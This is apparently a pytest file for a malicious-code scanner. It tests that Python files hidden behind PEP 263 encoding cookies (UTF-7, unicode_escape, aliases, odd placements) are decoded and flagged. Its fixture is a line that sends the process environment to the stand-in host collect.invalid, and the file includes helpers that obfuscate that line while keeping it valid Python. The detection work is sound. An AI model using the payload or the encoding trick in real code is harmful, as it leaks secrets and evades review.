"""What the interpreter decodes before it compiles (PEP 263) is decoded before anything is looked for in it."""

from __future__ import annotations

from pathlib import Path

import pytest

from scanner.code.pool import analyse_artifacts
from scanner.code.source import is_coded_otherwise, unknown_codec
from scanner.commands.scan import jobs_of
from scanner.encoding import cookie

LOOK_ALIKE = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.invalid/x', data=repr(dict(os.environ)).encode())\n"
)


def _utf7(text: str) -> bytes:
    """Every letter in base64, which a codec that writes UTF-7 never does."""
    import base64

    def run(part: str) -> str:
        return f"+{base64.b64encode(part.encode('utf-16-be')).decode().rstrip('=')}-"

    return "\n".join("".join(run(one) if one.isalpha() else one for one in line) for line in text.split("\n")).encode()


def _escaped(text: str) -> bytes:
    return "".join(f"\\x{ord(one):02x}" for one in text).encode()


def _unicode_escaped(text: str) -> bytes:
    return "".join(f"\\u{ord(one):04x}" if one.isalpha() else one for one in text).encode()


HIDDEN = {
    "utf-7": b"# coding: utf-7\n" + _utf7(LOOK_ALIKE),
    "an-alias": b"# -*- coding: U7 -*-\n" + _utf7(LOOK_ALIKE),
    "another-alias": b"# vim: set fileencoding=unicode_1_1_utf_7 :\n" + _utf7(LOOK_ALIKE),
    "utf-before-the-cookie": b"# utf-8, or not: coding=unicode_escape\n" + _escaped("\n" + LOOK_ALIKE),
    "utf-behind-the-cookie": b"# coding: raw_unicode_escape (utf-8)\n" + _unicode_escaped(LOOK_ALIKE),
    "on-the-second-line": b"#!/usr/bin/env python\n# coding: utf-7\n" + _utf7(LOOK_ALIKE),
    "below-a-long-line": b"#" + b"-" * 70_000 + b"\n# coding: utf-7\n" + _utf7(LOOK_ALIKE),
    "below-a-form-feed": b"\x0c\n \x0c# coding: utf-7\n" + _utf7(LOOK_ALIKE),
    "behind-a-carriage-return": b"\r# coding: utf-7\r" + _utf7(LOOK_ALIKE).replace(b"\n", b"\r"),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_what_the_interpreter_decodes_is_read_decoded(tmp_path: Path, way: str) -> None:
    body = HIDDEN[way]
    compile(body, "extra.py", "exec")  # It is one: the interpreter takes it. Nothing of it runs.
    (tmp_path / "setup.cfg").touch()
    (tmp_path / "extra.py").write_bytes(body)
    _, analysis = next(iter(analyse_artifacts(list(jobs_of([str(tmp_path)])), 1)))
    assert analysis.verdict == "malicious"
    assert "environment-sent" in analysis.deciding_rules
    assert {one.name for one in analysis.capabilities} >= {"network"}


@pytest.mark.parametrize(
    "body",
    [
        b"import os\n# coding: utf-7\n",
        b"x = 1 # coding: utf-7\n",
        b"'''\n# coding: utf-7\n'''\n",
        b"\n\n# coding: utf-7\n",
        b"# encoding utf-7\n",
    ],
)
def test_what_is_no_cookie_decodes_nothing(body: bytes) -> None:
    assert cookie(body) == ""
    assert not is_coded_otherwise(body)


@pytest.mark.parametrize("name", ["utf-8", "UTF_8", "utf8", "utf-8-unix", "ascii", "u8", "cp65001"])
def test_encodings_that_are_as_the_bytes_cost_nothing(name: str) -> None:
    assert not is_coded_otherwise(f"# -*- coding: {name} -*-\n".encode())


def test_an_encoding_that_somebody_must_bring_is_a_gap(tmp_path: Path) -> None:
    assert unknown_codec(b"# coding: rot13\n") == ""  # Python has it, and refuses it.
    (tmp_path / "setup.cfg").touch()
    (tmp_path / "extra.py").write_bytes(b"# coding: hidden-things\nprint(1)\n")
    _, analysis = next(iter(analyse_artifacts(list(jobs_of([str(tmp_path)])), 1)))
    assert analysis.verdict == "incomplete"
    assert "hidden-things" in analysis.gaps[0].reason
